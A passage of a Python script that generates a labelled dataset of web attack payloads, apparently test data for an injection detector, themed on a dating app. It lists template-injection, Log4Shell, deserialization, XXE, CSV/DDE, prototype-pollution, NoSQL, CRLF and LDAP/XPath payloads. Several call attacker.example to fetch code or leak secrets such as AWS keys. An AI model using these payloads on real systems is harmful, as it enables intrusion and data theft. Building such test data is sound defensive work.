    ("bio-ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("bio-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("bio-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('whoami') %>"),
    ("bio-ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("bio-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("bio-ssti-django-settings", "{{ settings.SECRET_KEY }}"),
    ("msg-el-jsp", "${applicationScope}"),
    ("bio-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("caption-ssti-jinja2-loop", "{% for c in [].__class__.__base__.__subclasses__() %}\n{% if c.__name__ == 'Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}\n{% endfor %}"),
    ("bio-ssti-jinja2+url", "%7B%7Bjoiner.__init__.__globals__.os.popen(%27uname%27).read()%7D%7D"),
    ("bio-log4shell-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("useragent-log4shell-lower", "${${lower:j}ndi:${lower:r}mi://198.51.100.8/x}"),
    ("msg-log4shell-env-dns", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.l4j.attacker.example}"),
    ("report-log4shell-default-obf", "${${::-j}${::-n}${::-d}${::-i}:ldaps://attacker.example/o}"),
    ("plain-log4shell", "${jndi:ldap://203.0.113.44/Exploit}"),
    ("plain-el-getenv", "${T(java.lang.System).getenv()}"),
    ("plain-ssti-jinja2-environ", "{{ config.__class__.__init__.__globals__['os'].environ }}"),
    ("cookie-php-object-injection", "a:1:{i:0;O:7:\"Profile\":1:{s:8:\"template\";s:28:\"../../../../../../etc/passwd\";}}"),
    ("prefs-yaml-python", "!!python/object/apply:os.system ['id']"),
    ("prefs-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("prefs-pickle", "cos\nsystem\n(S'id'\ntR."),
    ("prefs-pickle+base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("state-dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("prefs-jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("prefs-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.3:1099/o\",\"autoCommit\":true}"),
    ("prefs-node-serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("import-xxe-file", "<?xml version=\"1.0\"?>\n<!DOCTYPE profile [<!ENTITY bio SYSTEM \"file:///etc/passwd\">]>\n<profile><name>Sam</name><bio>&bio;</bio></profile>"),
    ("import-xxe-oob-dtd", "<?xml version=\"1.0\"?><!DOCTYPE m [<!ENTITY % d SYSTEM \"http://attacker.example/x.dtd\"> %d;]><match/>"),
    ("photo-xxe-svg", "<?xml version=\"1.0\" standalone=\"yes\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"200\" height=\"50\"><text y=\"20\">&h;</text></svg>"),
    ("import-xxe-php-filter", "<!DOCTYPE r [<!ENTITY x SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/.env\">]><r>&x;</r>"),
    ("import-xxe-entity-expansion", "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"haha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]><bio>&e;&e;&e;&e;&e;&e;&e;</bio>"),
    ("import-xinclude", "<bio xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></bio>"),
    ("prefs-proto-pollution", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("prefs-constructor-prototype", "{\"constructor\":{\"prototype\":{\"verified\":true}}}"),
    ("query-proto-bracket", "__proto__[premium]=true"),
    ("query-constructor-bracket", "constructor[prototype][role]=admin"),
    ("prefs-proto-pollution+unicode", "{\"\\u005f\\u005fproto\\u005f\\u005f\":{\"isAdmin\":true}}"),
    ("prefs-proto-pollution-rce", "{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"argv0\":\"console.log(require('child_process').execSync('id').toString())//\",\"NODE_OPTIONS\":\"--require /proc/self/cmdline\"}}"),
    ("bio-csv-hyperlink", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for pics\")"),
    ("name-csv-dde", "=cmd|' /C calc'!A0"),
    ("report-csv-plus-dde", "+SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("caption-csv-at-dde", "@SUM(1+9)*cmd|' /C notepad'!A0"),
    ("bio-csv-webservice", "=WEBSERVICE(\"http://attacker.example/leak?\"&C1)"),
    ("city-csv-importxml", "\t=IMPORTXML(CONCAT(\"http://attacker.example/?\",A1:A9),\"//a\")"),
    ("msg-csv-minus-dde", "-2+3+cmd|' /C calc'!'A1'"),
    ("filter-python-eval", "__import__('os').system('id')"),
    ("filter-js-eval", "age>25 && require('child_process').execSync('id')"),
    ("bio-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("bio-esi-include", "<esi:include src=\"http://attacker.example/esi\"/>"),
    ("bio-ssti-jinja2+unicode", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f']['\\u005f\\u005fmro\\u005f\\u005f'][1]['\\u005f\\u005fsubclasses\\u005f\\u005f']() }}"),
    ("prompt-ssti-jinja2-inline", "My simple pleasures: {{ self.__init__.__globals__.__builtins__.open('/etc/passwd').read() }}"),
]
CODE_PREFIX = ["About me: ", "Two truths and a lie: ", "Looking for ", "Caption: ", "", "Hi "]
CODE_PAYLOADS = [
    ("ssti-jinja2", "{{ url_for.__globals__.os.popen('%s').read() }}"),
    ("ssti-jinja2", "{{ get_flashed_messages.__globals__.__builtins__.__import__('os').popen('%s').read() }}"),
    ("ssti-freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"%s\")}"),
    ("el-spel", "${T(java.lang.Runtime).getRuntime().exec('%s')}"),
    ("ssti-erb", "<%%= system('%s') %%>"),
]
CODE_CMDS = ["id", "whoami", "hostname", "cat /etc/passwd", "ls /"]


def code_template(rng):
    tech, p = rng.choice(CODE_PAYLOADS)
    return f"bio-{tech}", rng.choice(CODE_PREFIX) + (p % rng.choice(CODE_CMDS))


# ====================================================================== nosqli
NOSQLI = [
    ("login-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": null}}"),
    ("login-ne-bracket", "password[$ne]=x"),
    ("agefilter-gt-bracket", "age[$gt]=0"),
    ("login-regex-bracket", "username[$regex]=^a.*&password[$regex]=^p"),
    ("filter-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-where-string-break", "'; return this.password.match(/^a/) && sleep(3000); var x='"),
    ("search-where-tautology", "tacos' || '1'=='1"),
    ("login-in-gt", "{\"email\": {\"$in\": [\"admin@datingapp.example\", \"root@datingapp.example\"]}, \"password\": {\"$gt\": \"\"}}"),
    ("filter-expr", "{\"$expr\": {\"$gt\": [{\"$strLenCP\": \"$password_hash\"}, 0]}}"),
    ("location-near-override", "{\"$nearSphere\": [0, 0], \"$maxDistance\": 1e9}"),
    ("filter-or-hidden", "{\"$or\": [{\"age\": {\"$gte\": 0}}, {\"is_hidden\": true}]}"),
    ("reset-exists-bracket", "reset_token[$exists]=true"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"uid\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("filter-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000); return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("plain-gt-bracket", "[$gt]="),
    ("login-nin-bracket", "username[$nin][]=nobody&password[$ne]="),
    ("interest-regex-redos", "{\"$regex\": \"^(a+)+$\"}"),
    ("search-couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("login-ne-bracket+url", "password%5B%24ne%5D=1"),
    ("reset-type", "{\"reset_token\": {\"$type\": \"string\"}}"),
    ("bio-where-multiline", "{\"$where\": \"function() {\\n  var d = new Date();\\n  while (new Date() - d < 5000) {}\\n  return true;\\n}\"}"),
]
NOSQL_FIELDS = ["password", "email", "age", "height_cm", "distance_km", "token", "role"]
NOSQL_OPS = [("ne", "0"), ("gt", ""), ("gte", "0"), ("regex", ".*"), ("exists", "true"), ("nin", "x")]


def nosqli_template(rng):
    f = rng.choice(NOSQL_FIELDS)
    op, val = rng.choice(NOSQL_OPS)
    if rng.random() < 0.5:
        return f"filter-{op}-bracket", f"{f}[${op}]={val}"
    jval = json.dumps(val if op not in ("nin",) else [val])
    return f"filter-{op}-json", "{\"" + f + "\": {\"$" + op + "\": " + jval + "}}"


# ====================================================================== crlf
CRLF = [
    ("photo-filename-header", "pic.jpg\r\nSet-Cookie: session=attacker"),
    ("redirect-location+url", "/matches%0d%0aLocation:%20https://attacker.example/"),
    ("redirect-response-split+url", "%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>alert(1)</script>"),
    ("report-log-forge", "spam\n2024-05-01T12:00:00Z INFO user=admin action=ban_removed target=u_8812 status=ok"),
    ("msg-log-forge-crlf", "hi\r\n[2024-05-02 03:14:07] AUTH success user=admin ip=10.0.0.1"),
    ("invite-mail-bcc", "friend@example.com\r\nBcc: list1@attacker.example,list2@attacker.example"),
    ("sharedate-mail-subject", "My date tonight\nBcc: victims@attacker.example\nContent-Type: text/html\n\n<a href=https://attacker.example>verify</a>"),
    ("username-log-ansi", "jess\u001b[2J\u001b[1;31mSYSTEM COMPROMISED\u001b[0m"),
    ("lang-header-xff", "en\r\nX-Forwarded-For: 127.0.0.1"),
    ("caption-log-json-forge", "cute\",\"level\":\"info\",\"user\":\"admin\",\"msg\":\"password reset ok"),
    ("theme-cookie-crlf", "dark\r\nSet-Cookie: role=admin; Path=/"),
    ("redirect-header+unicode", "/home嘍嘊Set-Cookie:x=1"),
    ("report-mail-from", "Concerned user\r\nFrom: safety@datingapp.example\r\nReply-To: support@attacker.example"),
    ("invite-smtp-rcpt", "hi@example.com>\r\nRCPT TO:<spam@attacker.example>"),
    ("msg-accesslog-forge+url", "ok%0a127.0.0.1 - admin [02/May/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("plain-crlf-header+url", "%0d%0aSet-Cookie:%20pwn=1"),
    ("plain-lf-log", "x\nERROR admin login failed 500 times"),
    ("plain-crlf-location", "\r\nLocation: http://attacker.example/"),
    ("location-response-split", "Paris\r\n\r\n<html><body>Your session expired. <a href=//attacker.example>Log in</a></body></html>"),
    ("photo-header+url2", "a.jpg%250d%250aSet-Cookie:%2520sid=1"),
    ("report-syslog-forge", "abuse\n<34>1 2024-05-01T00:00:00Z app01 auth - - - admin session granted"),
    ("useragent-log-cr", "Mozilla/5.0\rGET /admin/delete_user?id=1 200"),
    ("invite-mail-cc+url", "me@example.com%0ACc:all@attacker.example"),
    ("sharedate-mail-mime", "Date recap 💕\nContent-Type: multipart/mixed; boundary=\"x\"\n\n--x\nContent-Type: text/html\n\n<h1>Verify your account</h1>\n--x--"),
    ("host-header-crlf", "datingapp.example\r\nX-Original-URL: /admin"),
    ("report-log-stacktrace-spoof", "report ok\r\n\tat com.app.Admin.grant(Admin.java:42)"),
    ("msg-log-forge-ls", "brb\u2028INFO moderator=alice approved=all_pending_reports"),
]
CRLF_FIELDS = ["displayname", "photo", "redirect", "lang"]
CRLF_BREAKS = [("crlf", "\r\n"), ("lf", "\n"), ("crlf+url", "%0d%0a"), ("lf+url", "%0A")]
CRLF_INJ = ["Set-Cookie: uid=1; Path=/", "Location: https://attacker.example/", "X-Admin: true",
            "Content-Type: text/html", "Bcc: x@attacker.example"]
CRLF_BASE = ["Sam", "IMG_0042.jpg", "/likes", "en-US"]


def crlf_template(rng):
    i = rng.randrange(len(CRLF_FIELDS))
    name, br = rng.choice(CRLF_BREAKS)
    inj = rng.choice(CRLF_INJ)
    if "url" in name:
        inj = inj.replace(" ", "%20")
    return f"{CRLF_FIELDS[i]}-header-{name}", CRLF_BASE[i] + br + inj


# ====================================================================== ldap / xpath
LDAPX = [
    ("username-ldap-wildcard", "*"),
    ("login-ldap-or-break", "jess*)(|(objectClass=*)"),
    ("login-ldap-true-filter", "admin)(&)"),
    ("search-ldap-attr-blind", "*)(userPassword=a*"),
    ("moderator-ldap-memberof", "*)(memberOf=cn=admins,ou=groups,dc=datingapp,dc=example"),
    ("plain-ldap-or", "*)(|(cn=*))"),
    ("email-ldap-mail-break", "*@datingapp.example)(|(mail=*"),
    ("login-ldap-break+url", "admin%29%28%7C%28uid%3D%2A%29"),
    ("name-ldap-description", "x)(description=*password*"),
    ("login-xpath-tautology", "' or '1'='1"),
    ("login-xpath-count", "' or count(/users/user)>0 or '"),
    ("search-xpath-union", "hiking'] | //user/password | //*['"),
    ("filter-xpath-blind-substring", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("prefs-xpath-name", "x' or name(/*[1])='profiles' and '1'='1"),
    ("location-xpath-doc", "Paris'] | doc('file:///etc/passwd') | //city['"),
    ("plain-xpath", "') or ('1'='1"),
    ("plain-ldap-close-or", "*)(uid=*))(|(uid=*"),
    ("tag-xpath-string-length", "yoga' and string-length(//admin/secret)>10 and 'a'='a"),
    ("username-xpath-position", "x' or position()=1 or 'a'='b"),
    ("lang-xpath-numeric", "1 or 1=1"),
    ("username-ldap-objectclass-close", "*)(objectClass=person))(&(uid=x"),
]
LDAP_ATTRS = ["uid", "mail", "cn", "sn", "telephoneNumber"]


def ldapx_template(rng):
    a = rng.choice(LDAP_ATTRS)
    if rng.random() < 0.5:
        return "login-ldap-or-break", f"{rng.choice(['sam', 'jess', 'admin', 'mod'])}*)(|({a}=*)"
    return "search-xpath-union", f"{rng.choice(['hiking', 'Paris', 'jazz'])}'] | //user/{a} | //*['"


CATEGORIES = [
    ("sqli", SQLI, sqli_template, 8),
    ("xss", XSS, xss_template, 8),
    ("cmdi", CMDI, cmdi_template, 7),
    ("traversal", TRAVERSAL, traversal_template, 7),
    ("ssrf", SSRF, ssrf_template, 6),
    ("code", CODE, code_template, 7),
    ("nosqli", NOSQLI, nosqli_template, 5),
    ("crlf", CRLF, crlf_template, 4),
    ("ldap-xpath", LDAPX, ldapx_template, 3),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    stats = []
    for cat, literals, tmpl, n_tmpl in CATEGORIES:
        n = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n += 1
        made = 0
        tries = 0
        while made < n_tmpl:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template exhausted for {cat}")
            cls, v = tmpl(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        stats.append((cat, n + made, n))
    for cat, cls, v in rows:
        assert isinstance(v, str) and v and len(v) <= 1800, (cat, cls)
    out = Path(__file__).with_name("attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (cat, cls, v) in enumerate(rows, 1):
            obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:11s} {n:4d}  literals {lit}")
    print(f"total {len(rows)}  literals {total_lit} ({100.0 * total_lit / len(rows):.1f}%)")


if __name__ == "__main__":
    main()
